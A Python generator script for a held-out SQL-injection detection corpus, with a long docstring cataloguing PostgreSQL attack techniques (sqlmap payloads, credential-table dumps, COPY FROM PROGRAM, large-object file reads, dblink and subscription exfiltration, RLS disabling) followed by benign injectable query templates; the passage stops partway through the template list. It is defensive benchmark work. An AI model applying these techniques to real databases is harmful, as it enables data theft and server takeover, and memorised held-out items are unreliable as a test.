#!/usr/bin/env python3
"""Generator for the nineteenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_nineteenth.py [OUTPUT]      # default: nineteenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
as in make_ninth.py to make_eighteenth.py); rows whose text occurs in any
earlier corpus (dev to eighteenth) are skipped.  2,814 rows: 1,316 attacks
(46.8 %) and 1,498 benign; ids f19-NNNNNN, split "nineteenth".  Written for
generalization, so the templates, payload lists and benign generators are
new for this file:

* 89 application templates (`t19_<producer>_*`) on tables none of the
  earlier corpora use, in fifteen domains (a hovercraft ferry, airship
  sightseeing, sundial restoration, an accordion repair shop, a trampoline
  park, a bobbin-lace guild, a ship chandlery, a bowling alley, a tortoise
  sanctuary, jukebox restoration, a glassblowing studio, a hurling club,
  chimney sweeps, a brass band and a well-drilling firm), each the SQL text
  one producer sends after splicing a request parameter into it: Rust SQLx
  query_as with format! fallbacks, tokio-postgres simple_query batches, Go
  GORM Clauses(clause.Expr) and ent sql.Raw predicates, jOOQ
  DSL.condition(String) / DSL.field(String), Quarkus Panache native
  queries, Micronaut Data @Query, linq2db Sql.Expr, Kysely sql.raw,
  MikroORM raw(), Slonik sql.unsafe, Tortoise ORM RawSQL, Piccolo raw(),
  Ruby ROM and Hanami, Laminas Db Expression, CakePHP newExpr(), Elixir
  Ecto.Adapters.SQL.query! with "#{}", OCaml Caqti, Deno postgres
  queryObject(string), PostGraphile computed columns, dbt models compiled
  with {{ var() }}, Airbyte normalization, psql scripts with -v variables
  spliced raw (:name), shell scripts running psql -c "...$VAR...", GitHub
  Actions workflow SQL steps, Terraform postgresql_role / grant / default
  privileges, Ansible postgresql_query and a Kubernetes operator's init
  SQL -- other parameters stay bound as $n.  Statement shapes include
  texts applications send as one string: SET LOCAL statement_timeout;
  SELECT, SELECT set_config('app.operator', ...); SELECT, BEGIN; UPDATE;
  COMMIT, SAVEPOINT; UPDATE; RELEASE SAVEPOINT, SET search_path TO ...;
  ...; RESET search_path, LOCK TABLE ... IN SHARE ROW EXCLUSIVE MODE;
  UPDATE, pg_advisory_xact_lock(hashtext(...)) before DML, DECLARE ...
  CURSOR; FETCH 100, PREPARE ...; EXECUTE ...(n), DELETE ...; INSERT ...
  SELECT reloads, CREATE TEMP TABLE ...; COPY ... FROM STDIN; INSERT ...
  SELECT; (ANALYZE;) DROP TABLE staging loads, ANALYZE t; VACUUM t, REVOKE
  ...; GRANT ...; and single statements with the value in DDL and admin
  positions: CREATE INDEX CONCURRENTLY names and columns, PARTITION OF
  names and bounds, COMMENT ON, REINDEX TABLE, VACUUM (ANALYZE), GRANT ...
  TO role, ALTER ROLE ... SET, CREATE ROLE ... CONNECTION LIMIT / VALID
  UNTIL, ALTER DEFAULT PRIVILEGES FOR ROLE, CREATE EXTENSION ... WITH
  SCHEMA, CREATE DATABASE ... OWNER, CREATE PUBLICATION ... WITH (publish),
  cron.schedule job names, schedules and $sql19$ bodies, cursor names;
  besides LIKE / ILIKE patterns (with ESCAPE), IN lists, ARRAY[...] with
  && and = ANY, VALUES rows (UPDATE ... FROM (values ...)), SET lists,
  ON CONFLICT upserts, jsonb ->> / #>> '{key}' / || '...'::jsonb,
  jsonb_path_exists paths, jsonb_extract_path_text keys, intervals,
  ROWS BETWEEN n PRECEDING frames, BETWEEN bounds, LIMIT / OFFSET and
  ORDER BY columns and directions.  Four templates replay a value the
  application stored earlier (second-order: an artist, an oil pattern, a
  county, a species);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload tests, weighted to tests
  make_eighteenth.py left out (AND / OR boolean-based blind without
  comment, OR NOT, PostgreSQL OR ... (CAST), Parameter replace and ORDER BY
  (GENERATE_SERIES), ORDER BY, GROUP BY, the boolean-based stacked query,
  > 8.1 AND time (comment), > 8.1 OR time, OR / AND heavy query, heavy
  query ORDER BY, OR error-based, error-based Parameter replace
  (GENERATE_SERIES) and ORDER BY, GROUP BY, heavy-query stacked (comment),
  the < 8.2 Glibc sleep() stacked query, inline queries, a few MySQL and
  MSSQL tests), detection and enumeration inferences for --users,
  --passwords, --privileges, --tables, --columns, --current-db, --banner,
  --common-tables, --common-columns, --dump / --count of this file's tables
  and --sql-query on information_schema grants, pg_user_mappings and
  pg_hba_file_rules (default, --no-escape, --no-cast); boundaries closing
  and reopening a string with `AND n=n`, `AND 'x'='x`, `AND 'x' LIKE 'x`,
  `OR 'x'='y`, the `%'` LIKE form, the slot's required tail or a comment;
  UNION requests with ORDER BY probing and dumps of pg_shadow,
  pg_user_mappings, pg_hba_file_rules, pg_tables, pg_settings and this
  file's tables; takeover steps (lo_import, lo_get read-back, COPY FROM a
  file into a table, lo_create, pg_largeobject update, output table,
  COPY FROM PROGRAM, sys_eval UDF, cleanup); and for about one request in
  eight a chain of tamper scripts the earlier files used least or not at
  all (greatest, least, symboliclogical, 0eunion, misunion,
  concat2concatws, sp_password, informationschemacomment,
  commentbeforeparentheses, space2morecomment, lowercase, between, and the
  filter-undoing nonrecursivereplacement).  The hand families are
  PostgreSQL techniques written for this file, aimed at the slot they land
  in (string, number, identifier, ORDER BY, LIMIT / OFFSET, JSON key and
  path, interval, ARRAY and IN lists, LIKE patterns, VALUES rows, SET
  lists, window frames, DO and cron bodies, psql variables, DDL
  identifiers, role and cursor names): tautologies through to_regclass /
  to_regrole, current_setting, EXISTS (TABLE pg_settings), jsonb_path_match,
  int4range, xml_is_well_formed, U&'\\0061', ILIKE ANY, BETWEEN SYMMETRIC,
  IS NOT DISTINCT FROM, regexp_like, dollar-quoted literals and comment-
  split operators; probes by octet_length, sha256 prefixes, strpos,
  right(left()), hex LIKE, regexp_like, chr() comparisons, like_regex
  jsonpaths, substring SIMILAR, int4range, CASE over pg_settings,
  current_setting('data_directory'), to_regclass / to_regrole,
  has_table_privilege / has_function_privilege, pg_execute_server_program
  membership, rolreplication, pg_user_mappings, wal_level and
  pg_available_extensions; error leaks through jsonb_path_query with a
  strict path built from the secret, ::jsonpath / ::json / ::boolean /
  ::inet / ::cidr / ::date / ::regtype / ::regnamespace / ::regproc /
  ::int8 / ::xml casts, pg_ls_dir(secret), current_setting(secret) and
  xpath namespaces; time by pg_sleep_for / pg_sleep_until, recursive CTEs,
  nested-quantifier regexes ('(x+x+)+y', '(a*)*b'), cross-joined
  generate_series, CASE over pg_settings, superuser-only sleeps, shared
  advisory-lock waits and advisory-lock floods; UNION arms with json_agg,
  array_to_string, xmlforest and CTE arms over pg_hba_file_rules,
  pg_user_mappings, pg_subscription, pg_ls_dir, pg_settings, pg_shadow,
  pg_event_trigger, pg_largeobject_metadata and pg_stat_ssl; stacked event
  triggers, RULEs, ALTER TABLE ... DISABLE / NO FORCE ROW LEVEL SECURITY,
  SET row_security = off, permissive policies, CREATE PUBLICATION FOR ALL
  TABLES and CREATE SUBSCRIPTION exfiltration, pg_terminate_backend by
  user, ALTER SYSTEM (log_statement, archive_command, RESET ALL) with
  pg_reload_conf, CREATE EXTENSION dblink / plpython3u / file_fdw,
  postgres_fdw servers with user mappings and IMPORT FOREIGN SCHEMA,
  dblink_exec, DROP OWNED, replication / BYPASSRLS roles; pg_ls_dir,
  pg_stat_file and pg_read_binary_file (missing_ok) variants, pg_ls_logdir
  and pg_ls_archive_statusdir, lo_creat / lo_put / lo_export,
  lo_import / lo_get / loread chains, COPY ... FROM PROGRAM into temp
  tables, file_fdw program tables, crontab writes; DO blocks that EXECUTE
  array_to_string()ed, hex-decoded, translate()d, format('%I')ed and split
  text, PERFORM dblink_exec, advisory-lock loops, RAISE with
  pg_read_file, plperlu system(), event-trigger, SECURITY DEFINER and
  procedure plants; dollar tags new for this file ($k19$, $h$, $ŧ$, $o_o$,
  $x_1$, $Q2$, $pl19$, $DO$, $λx$, $b_19$, $Ʃ$, $fn_$, $ü$, $q1$ ...) and
  guessed tags ($sql19$, $body$, $function$, $job$, $cron$, $q$); E''
  octal and \\u escapes, U&'' with \\+XXXXXX and UESCAPE, a U&"..."
  identifier.  Breakouts end with comment spellings the earlier files
  used least or not at all (`--\\t`, `--!`, `--=`, `--~`, `--|`, `--$`,
  `/**`, `/* x`, `;/*`, `--` + em space or no-break space, `--;--`,
  `/**/--`, `-- -- `, `-- ñ`, `--` + digits or letters).  Comment
  truncation uses those and `--%`, `-- ` + a lower-case word.
  Obfuscation reshapes payloads outside their literals: every-third,
  lower-first, consonant-upper, random and last-letter case; tab, LF,
  CR LF and form-feed runs, also after `)` and around `=`, `||` and `::`;
  comments such as `/*19*/`, `/**//**/`, `/*+*/`, `/*select*/`,
  `/*/*n*/*/`, `/*!*/` (and in some rows a comment splitting a keyword,
  which PostgreSQL does not rejoin); and no spaces;
* benign rows from new input pools (apostrophe names, SQL-looking business
  names, URLs and e-mails, JSON, long notes, Unicode from Arabic and
  Hebrew to Tamil incl. RTL embedding and marks, ZWJ, emoji and look-alike
  apostrophes such as primes and the saltillo, whitespace, numbers as
  strings, punctuation, formatted codes, and typed values for the typed
  slots: dates, timestamps, intervals, durations, jsonpaths, JSON keys,
  JSON documents, cron expressions, cron job commands, e-mails), attack
  strings escaped correctly for their slot (`escaped_attack_string`,
  including primes, the saltillo, backticks, fullwidth double quotes and
  %27 / &#39; / \\u0027 spelled as text, which PostgreSQL does not read as
  quotes there), new complex generators (`cx19_*`: SQLx, GORM, ent, jOOQ,
  Panache, Micronaut, linq2db, Kysely, MikroORM, Slonik, Tortoise, ROM,
  Hanami, CakePHP and Ecto output; JSON, text, numeric, date, network and
  range built-ins; producer comments from these tools and from dbt,
  Airbyte, GitHub Actions, Terraform, Ansible and an operator; windows with
  RANGE / interval frames, NOT MATERIALIZED CTEs, recursive part chains;
  query builders; multi-statement migrations with lock_timeout, schemas
  and default privileges, partitions, publications, enums; UNION / EXCEPT
  / INTERSECT reports; VALUES, generate_series and unnest batches;
  ANALYZE + VACUUM, VACUUM options, REINDEX, statistics targets; SET LOCAL,
  set_config, savepoints, LOCK TABLE, advisory locks, cursors and
  search_path in one string; COPY csv options and staging loads;
  EXCLUDE / identity / UNLOGGED / security_barrier DDL; catalog
  introspection; PREPARE / EXECUTE / DEALLOCATE; SQL, plpgsql and procedure
  bodies; full-text search) and regression-test-style statements written
  for this file (`regress19:<file>.sql`: publication, subscription,
  event_trigger, foreign_data, collate, vacuum, privileges,
  create_aggregate, create_operator, create_cast, inherit, tablesample,
  lock, prepared_xacts, transactions, returning, insert_conflict,
  namespace, create_view, reloptions, temp, polymorphism, rowtypes,
  create_function_sql, misc_functions, dbsize, numeric, int8, inet,
  rangetypes, arrays, strings, date, jsonb_jsonpath, boolean, window,
  char).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes or a
backslash before the quote into a standard string, quote doubling only
into E'').

Checked once against PostgreSQL 15's raw parser (throwaway cluster on
loopback, each statement sent through psql as `SELECT 1/0;` + statement in
one simple query, so a syntax error is reported before anything runs):
all 1,498 benign rows parse (8 did not in a first draft -- regression
statements subscripting an ARRAY[...] constructor without parentheses,
now (ARRAY[...])[n] -- and were fixed; none was dropped); 993 of the
1,316 attacks parse, 323 do not (247 sqlmap requests: boundaries that do not fit
the slot, tests sent to slots that take no condition, and 17 tampered
ones -- sp_password, misunion, greatest / least, space2morecomment,
symboliclogical, 0eunion, between; 76 hand-written, obfuscated,
truncation and bypass rows: open `/**`, `/* x` and `;/*` endings,
breakouts and truncations that leave a required tail behind,
keyword-splitting comments).  No row holds a NUL byte.  There is no `parses` field,
as in the seventh to eighteenth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        quoted_ident_breakout, randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        strip_andor, text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids, params, kind_lead_in  # noqa: E402
from functools import partial  # noqa: E402

SEED = 19191919
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth", "eighteenth")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}), as in make_eighteenth.py: the SQL text one producer
# sends after splicing a request parameter into it (the producer is the
# second part of the name; other parameters stay bound as $n).  Slot types:
# q '...', e E'...', d $sql19$...$sql19$, qi "...", n number, list (numbers
# joined with commas), col (ORDER BY or index expression), dir (ASC/DESC),
# ident (part of a bare identifier: table, index, partition, cursor, role,
# schema or extension name).  cut: what closes the statement's open parts
# after the slot when more than brackets must follow; cond_cut: what closes
# the slot before a condition appended in its WHERE.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


T = [
 # hovercraft ferry -- Rust SQLx query_as with format! fallbacks, and tokio-postgres simple_query batches
 ("t19_sqlxfmt_crossings", "SELECT crossing_id, craft_name, departs_at, seats_left FROM hover_crossings WHERE route_code = '{a}' AND departs_at::date = '{b}' ORDER BY departs_at LIMIT {c}",
  {"a": S("q", ["SOL-RYD", "RYD-SOL"]), "b": S("q", ["2025-08-14", "2026-01-03"], "date"), "c": S("n", ["12", "30"])}),
 ("t19_sqlxfmt_manifest_sort", "SELECT passenger_id, full_name, seat_no FROM crossing_manifest WHERE crossing_id = $1 ORDER BY {a} {b} NULLS LAST",
  {"a": S("col", ["seat_no", "full_name", "passenger_id"]), "b": S("dir", ["ASC", "DESC"])}),
 ("t19_sqlxfmt_skirt_wear", "SELECT craft_id, segment_no, wear_mm FROM skirt_segments WHERE craft_id IN ({a}) AND wear_mm > {b} ORDER BY wear_mm DESC",
  {"a": S("list", ["3, 5", "11"]), "b": S("n", ["4", "2.5"])}),
 ("t19_tpgsimple_fares", "SET LOCAL statement_timeout = '{a}'; SELECT fare_class, price_pence FROM hover_fares WHERE route_code = '{b}' ORDER BY price_pence",
  {"a": S("q", ["5s", "2500ms"], "duration"), "b": S("q", ["SOL-RYD", "PMH-RYD"])}),
 ("t19_tpgsimple_operator", "SELECT set_config('app.operator', '{a}', true); SELECT crossing_id, status FROM hover_crossings WHERE operator_code = current_setting('app.operator') AND departs_at > now()",
  {"a": S("q", ["hovertravel", "solent-flyer"], "", ", true)")}),
 ("t19_tpgsimple_weather_hold", "BEGIN; UPDATE hover_crossings SET status = 'held', hold_reason = '{a}' WHERE route_code = '{b}' AND departs_at < now() + interval '{c}'; COMMIT",
  {"a": S("q", ["gusts over 35 kn", "sea state 5"]), "b": S("q", ["SOL-RYD", "RYD-SOL"]), "c": S("q", ["3 hours", "90 minutes"], "interval")}),
 # airship sightseeing -- Go GORM Clauses(clause.Expr{SQL: ...}) and ent sql.Raw predicates built with fmt.Sprintf
 ("t19_gormexpr_flights", "SELECT * FROM \"airship_flights\" WHERE \"airship_flights\".\"deleted_at\" IS NULL AND (envelope_id = {a} AND helium_purity >= {b}) ORDER BY \"airship_flights\".\"id\" LIMIT 20",
  {"a": S("n", ["7", "12"]), "b": S("n", ["98.5", "99"])}),
 ("t19_gormexpr_booking_upsert", "INSERT INTO \"flight_bookings\" (\"flight_id\",\"passenger_email\",\"seats\") VALUES ({a},'{b}',{c}) ON CONFLICT (\"flight_id\",\"passenger_email\") DO UPDATE SET \"seats\"=\"excluded\".\"seats\" RETURNING \"id\"",
  {"a": S("n", ["4411", "90"]), "b": S("q", ["skyward@zeppelin.example", "m.ortiz@example.org"], "email"), "c": S("n", ["2", "4"])}),
 ("t19_gormexpr_gondola", "SELECT id, gondola_layout ->> '{a}' AS cabin FROM \"airships\" WHERE jsonb_path_exists(gondola_layout, '{b}')",
  {"a": S("q", ["forward", "aft"], "jkey"), "b": S("q", ["$.cabins[*] ? (@.seats > 4)", "$.windows"], "jpath", ")")}),
 ("t19_entraw_masts", "SELECT \"mooring_masts\".\"id\", \"mooring_masts\".\"site\" FROM \"mooring_masts\" WHERE \"mooring_masts\".\"site\" ILIKE '%{a}%' AND \"mooring_masts\".\"height_m\" > {b}",
  {"a": S("q", ["Cardington", "Lakehurst"]), "b": S("n", ["20", "45"])}),
 ("t19_entraw_route_winds", "SELECT route_id, leg, wind_kts, avg(wind_kts) OVER (PARTITION BY route_id ORDER BY leg ROWS BETWEEN {a} PRECEDING AND CURRENT ROW) AS rolling FROM route_winds WHERE route_id = $1",
  {"a": S("n", ["2", "5"], "", " PRECEDING AND CURRENT ROW) AS x FROM route_winds")}),
 ("t19_entraw_pilot_hours", "SELECT pilot_id, sum(flight_minutes) / 60.0 AS hours FROM pilot_logs WHERE logged_on >= '{a}' GROUP BY pilot_id HAVING sum(flight_minutes) > {b} ORDER BY 2 DESC",
  {"a": S("q", ["2025-04-01", "2024-10-15"], "date"), "b": S("n", ["600", "1200"])}),
 # sundial restoration -- jOOQ DSL.condition(String) / DSL.field(String) and Quarkus Panache native queries
 ("t19_jooqcond_latitude", "select \"dials\".\"dial_id\", \"dials\".\"gnomon_angle\" from \"dials\" where (latitude_deg between {a} and 60) and \"dials\".\"parish\" = $1",
  {"a": S("n", ["50", "51.5"])}),
 ("t19_jooqcond_motto", "select \"dials\".\"dial_id\", \"dials\".\"motto\" from \"dials\" where (motto ilike '{a}' escape '!') order by {b}",
  {"a": S("q", ["%tempus%", "sic transit%"]), "b": S("col", ["\"dials\".\"dial_id\"", "\"dials\".\"motto\"", "made_year desc"])}),
 ("t19_jooqcond_restore_log", "insert into \"restoration_log\" (\"dial_id\", \"work\", \"hours\", \"logged_by\") values ({a}, '{b}', {c}, '{d}') returning \"restoration_log\".\"id\"",
  {"a": S("n", ["311", "27"]), "b": S("q", ["re-leaded gnomon", "recut hour lines"]), "c": S("n", ["3.5", "12"]), "d": S("q", ["Ines Watts", "restorer2"])}),
 ("t19_panache_by_maker", "SELECT d.* FROM dials d WHERE d.maker = '{a}' AND d.made_year < {b} ORDER BY d.made_year",
  {"a": S("q", ["Thomas Tompion", "unknown mason"]), "b": S("n", ["1800", "1750"])}),
 ("t19_panache_gnomon_update", "UPDATE gnomons SET material = '{a}', recast_count = recast_count + {b} WHERE gnomon_id = {c}",
  {"a": S("q", ["bronze", "slate"]), "b": S("n", ["1", "0"]), "c": S("n", ["88", "1402"])}),
 ("t19_panache_recast_lock", "SELECT pg_advisory_xact_lock(hashtext('{a}')); UPDATE gnomons SET locked_by = $1 WHERE dial_id = {b}",
  {"a": S("q", ["gnomon-88", "dial:1402"], "", "))"), "b": S("n", ["88", "1402"])}),
 # accordion repair -- Micronaut Data @Query with concatenated fragments and linq2db Sql.Expr
 ("t19_micronaut_reeds", "SELECT reed_id, pitch_hz, tongue_mm FROM reed_blocks WHERE instrument_id = {a} AND pitch_hz BETWEEN {b} AND {c}",
  {"a": S("n", ["5120", "77"]), "b": S("n", ["220", "440"]), "c": S("n", ["880", "1760"])}),
 ("t19_micronaut_bellows", "SELECT b.* FROM bellows b WHERE b.folds >= {a} AND b.leak_test = '{b}' LIMIT {c} OFFSET {d}",
  {"a": S("n", ["14", "18"]), "b": S("q", ["pass", "slow leak"]), "c": S("n", ["25", "50"]), "d": S("n", ["0", "25"])}),
 ("t19_micronaut_ticket_cursor", "DECLARE repair_{a} CURSOR FOR SELECT ticket_id, fault FROM repair_tickets WHERE status = '{b}'; FETCH 100 FROM repair_{a}",
  {"a": S("ident", ["queue", "open_42"], "", " CURSOR FOR SELECT 1"), "b": S("q", ["waiting parts", "open"])}),
 ("t19_linq2db_tuning", "SELECT \"t1\".\"instrument_id\", \"t1\".\"tuning\" FROM \"instruments\" \"t1\" WHERE \"t1\".\"tuning\" = '{a}' AND \"t1\".\"cents_offset\" <> {b}",
  {"a": S("q", ["musette", "swing"]), "b": S("n", ["0", "12"])}),
 ("t19_linq2db_parts_overlap", "SELECT \"t\".\"ticket_id\" FROM \"repair_tickets\" \"t\" WHERE \"t\".\"part_ids\" && ARRAY[{a}] AND \"t\".\"opened_on\" > '{b}'",
  {"a": S("list", ["12, 40", "7"]), "b": S("q", ["2025-02-01", "2023-12-24"], "date")}),
 ("t19_linq2db_stock_lock", "LOCK TABLE parts_stock IN SHARE ROW EXCLUSIVE MODE; UPDATE parts_stock SET qty = qty - {a} WHERE part_no = '{b}'",
  {"a": S("n", ["1", "6"]), "b": S("q", ["VALVE-LEATHER-18", "REED-WAX"])}),
 # trampoline park -- Kysely sql.raw() and MikroORM raw() fragments
 ("t19_kysely_sessions", "select \"session_id\", \"court\", \"starts_at\" from \"jump_sessions\" where \"court\" = '{a}' and \"starts_at\" >= '{b}' order by \"starts_at\" limit {c}",
  {"a": S("q", ["Big Air", "dodgeball"]), "b": S("q", ["2025-07-12 10:00", "2026-02-20 16:30"], "ts"), "c": S("n", ["10", "40"])}),
 ("t19_kysely_waiver_answer", "select \"waiver_id\" from \"waivers\" where \"answers\" #>> '{{a}}' = '{b}'",
  {"a": S("q", ["injuries", "guardian"], "jkey"), "b": S("q", ["none", "yes"])}),
 ("t19_kysely_capacity", "update \"courts\" as c set \"capacity\" = v.cap from (values ({a}, {b})) as v(court_id, cap) where c.\"court_id\" = v.court_id",
  {"a": S("n", ["3", "8"], "", ")) as v(court_id, cap)"), "b": S("n", ["24", "40"], "", ")) as v(court_id, cap)")}),
 ("t19_mikroorm_party", "insert into \"party_bookings\" (\"host_name\", \"kids\", \"package\", \"party_on\") values ('{a}', {b}, '{c}', '{d}') returning \"id\"",
  {"a": S("q", ["Priya Shah", "Tom"]), "b": S("n", ["12", "20"]), "c": S("q", ["Bounce Deluxe", "Foam Pit"]), "d": S("q", ["2025-09-06", "2026-03-14"], "date")}),
 ("t19_mikroorm_member_like", "select \"m0\".* from \"members\" as \"m0\" where lower(\"m0\".\"email\") like lower('{a}%') limit {b}",
  {"a": S("q", ["jump", "s.k"]), "b": S("n", ["20", "5"])}),
 ("t19_mikroorm_site_path", "SET search_path TO park_{a}, public; SELECT count(*) FROM jump_sessions WHERE starts_at::date = current_date; RESET search_path",
  {"a": S("ident", ["leeds", "bristol"])}),
 # bobbin lace guild -- Slonik sql.unsafe and Tortoise ORM RawSQL
 ("t19_slonik_patterns", "SELECT pattern_id, title, bobbins FROM lace_patterns WHERE lace_style = '{a}' AND bobbins <= {b} ORDER BY {c}",
  {"a": S("q", ["Torchon", "Bucks Point"]), "b": S("n", ["24", "60"]), "c": S("col", ["bobbins", "title", "pattern_id DESC"])}),
 ("t19_slonik_pricking_load", "CREATE TEMP TABLE pricking_stage (LIKE prickings INCLUDING DEFAULTS); COPY pricking_stage FROM STDIN WITH (FORMAT csv); INSERT INTO prickings SELECT * FROM pricking_stage WHERE designer = '{a}'; DROP TABLE pricking_stage",
  {"a": S("q", ["Bridget Cook", "anon. Honiton"])}),
 ("t19_slonik_member_upsert", "INSERT INTO guild_members (member_no, display_name, region) VALUES ({a}, '{b}', '{c}') ON CONFLICT (member_no) DO UPDATE SET display_name = EXCLUDED.display_name RETURNING member_no",
  {"a": S("n", ["1207", "15"]), "b": S("q", ["Maud Eliot", "lacemaker99"]), "c": S("q", ["East Devon", "Bedfordshire"])}),
 ("t19_tortoise_likes", "SELECT \"id\",\"title\",(SELECT count(*) FROM \"pattern_likes\" WHERE \"pattern_id\"=\"lace_patterns\".\"id\" AND \"liked_at\" > '{a}') \"likes\" FROM \"lace_patterns\" WHERE \"designer\"='{b}'",
  {"a": S("q", ["2025-01-01 00:00", "2024-06-30 12:00"], "ts"), "b": S("q", ["Bridget Cook", "Hanne"])}),
 ("t19_tortoise_threads", "SELECT \"thread_id\",\"colour\" FROM \"threads\" WHERE \"weight_nm\" IN ({a}) AND \"brand\"='{b}' LIMIT {c}",
  {"a": S("list", ["60, 80", "120"]), "b": S("q", ["Egyptian Giza", "Bockens"]), "c": S("n", ["50", "10"])}),
 ("t19_tortoise_comment", "COMMENT ON TABLE lace_{a} IS '{b}'",
  {"a": S("ident", ["patterns", "prickings"], "", " IS NULL"), "b": S("q", ["guild pattern library", "scanned prickings, 1890-1930"])}),
 # ship chandlery -- Piccolo raw() and Ruby ROM relation SQL
 ("t19_piccolo_stock", "SELECT \"item\".\"sku\", \"item\".\"name\", \"item\".\"qty\" FROM \"item\" WHERE \"item\".\"category\" = '{a}' AND \"item\".\"qty\" < {b}",
  {"a": S("q", ["shackles", "antifouling"]), "b": S("n", ["5", "20"])}),
 ("t19_piccolo_reorder", "UPDATE item SET qty = qty + {a}, reordered_at = now(), supplier = '{b}' WHERE sku = '{c}' RETURNING sku, qty",
  {"a": S("n", ["12", "100"]), "b": S("q", ["Harbour Supply Co", "Marlow Ropes"]), "c": S("q", ["SHK-D-10", "AF-2L-RED"])}),
 ("t19_piccolo_price_reload", "DELETE FROM price_list WHERE supplier = '{a}'; INSERT INTO price_list (sku, supplier, price) SELECT sku, supplier, price FROM price_import WHERE supplier = '{a}'",
  {"a": S("q", ["Marlow Ropes", "Lewmar"])}),
 ("t19_rom_orders", "SELECT \"orders\".\"id\", \"orders\".\"vessel\", \"orders\".\"total\" FROM \"orders\" WHERE (\"orders\".\"vessel\" = '{a}') ORDER BY \"orders\".\"id\" DESC LIMIT {b}",
  {"a": S("q", ["MV Kittiwake", "Sea Pie"]), "b": S("n", ["10", "25"])}),
 ("t19_rom_ropes", "SELECT sku, diameter_mm, breaking_kn FROM ropes WHERE material = '{a}' AND diameter_mm = ANY(ARRAY[{b}]) ORDER BY breaking_kn DESC",
  {"a": S("q", ["Dyneema", "polyester 3-strand"]), "b": S("list", ["8, 10, 12", "6"])}),
 ("t19_rom_grant", "GRANT SELECT, INSERT ON chandlery.{a} TO {b}",
  {"a": S("ident", ["orders", "price_list"], "", " TO public"), "b": S("ident", ["deckhand_app", "purser"])}),
 # bowling alley -- Hanami repositories with raw fragments and Laminas Db Expression
 ("t19_hanami_lanes", "SELECT \"lanes\".\"lane_no\", \"lanes\".\"oil_pattern\" FROM \"lanes\" WHERE (\"oil_pattern\" = '{a}') AND (\"lane_no\" <= {b})",
  {"a": S("q", ["Kegel Shark", "house shot"]), "b": S("n", ["12", "24"])}),
 ("t19_hanami_scores", "SELECT bowler_id, game_no, score, rank() OVER (ORDER BY score DESC) AS pos FROM league_scores WHERE league = '{a}' AND week = {b}",
  {"a": S("q", ["Tuesday Mixed", "Seniors"]), "b": S("n", ["9", "31"])}),
 ("t19_hanami_score_fix", "SAVEPOINT score_fix; UPDATE league_scores SET score = {a} WHERE bowler_id = {b} AND game_no = 3; RELEASE SAVEPOINT score_fix",
  {"a": S("n", ["187", "300"]), "b": S("n", ["4412", "63"])}),
 ("t19_laminas_handicap", "SELECT bowler_id, LEAST(220 - avg_score, {a}) * 0.9 AS handicap FROM bowlers WHERE league = '{b}'",
  {"a": S("n", ["80", "60"]), "b": S("q", ["Tuesday Mixed", "Youth"])}),
 ("t19_laminas_shoes", "SELECT size_eu, pairs_free FROM shoe_rental WHERE size_eu IN ({a}) ORDER BY size_eu",
  {"a": S("list", ["38, 39, 40", "44"])}),
 ("t19_laminas_pinsetter_reindex", "REINDEX TABLE pinsetter_{a}",
  {"a": S("ident", ["faults", "cycles"])}),
 # tortoise sanctuary -- CakePHP ORM newExpr() and Elixir Ecto.Adapters.SQL.query! with "#{}" interpolation
 ("t19_cakeorm_weights", "SELECT Tortoises.id AS Tortoises__id, Tortoises.name AS Tortoises__name FROM tortoises Tortoises WHERE (Tortoises.species = '{a}' AND Tortoises.weight_kg > {b})",
  {"a": S("q", ["Testudo hermanni", "Geochelone sulcata"]), "b": S("n", ["1.2", "40"])}),
 ("t19_cakeorm_feed", "UPDATE feed_plans SET greens_g = {a}, notes = '{b}' WHERE tortoise_id = {c}",
  {"a": S("n", ["150", "900"]), "b": S("q", ["dandelion and plantain", "no fruit"]), "c": S("n", ["31", "7"])}),
 ("t19_cakeorm_hibernation", "SELECT id, name FROM tortoises WHERE hibernate_from <= '{a}'::date AND age_years > {b} ORDER BY name",
  {"a": S("q", ["2025-11-01", "2024-10-20"], "date"), "b": S("n", ["3", "10"])}),
 ("t19_ectoq_enclosures", "SELECT e.id, e.name, e.temp_c FROM enclosures AS e WHERE e.zone = '{a}' AND e.temp_c < {b}",
  {"a": S("q", ["Mediterranean", "arid"]), "b": S("n", ["18", "26.5"])}),
 ("t19_ectoq_vet_note", "INSERT INTO vet_notes (tortoise_id, vet, note, noted_at) VALUES ({a}, '{b}', E'{c}', now())",
  {"a": S("n", ["31", "7"]), "b": S("q", ["Dr Okafor", "locum"]), "c": S("e", ["shell pyramiding\\nreduce protein", "beak trimmed"])}),
 ("t19_ectoq_weigh_partition", "CREATE TABLE weigh_ins_{a} PARTITION OF weigh_ins FOR VALUES FROM ('{b}') TO ('{c}')",
  {"a": S("ident", ["2026", "y2025"], "", " PARTITION OF weigh_ins DEFAULT"), "b": S("q", ["2026-01-01", "2025-01-01"], "date", ") TO (MAXVALUE)"),
   "c": S("q", ["2027-01-01", "2026-01-01"], "date")}),
 # jukebox restoration -- OCaml Caqti with concatenated text and Deno postgres queryObject(string) misuse
 ("t19_caqti_records", "SELECT record_id, artist, title, rpm FROM jukebox_records WHERE artist = '{a}' AND rpm = {b}",
  {"a": S("q", ["Patsy Cline", "The Shadows"]), "b": S("n", ["45", "78"])}),
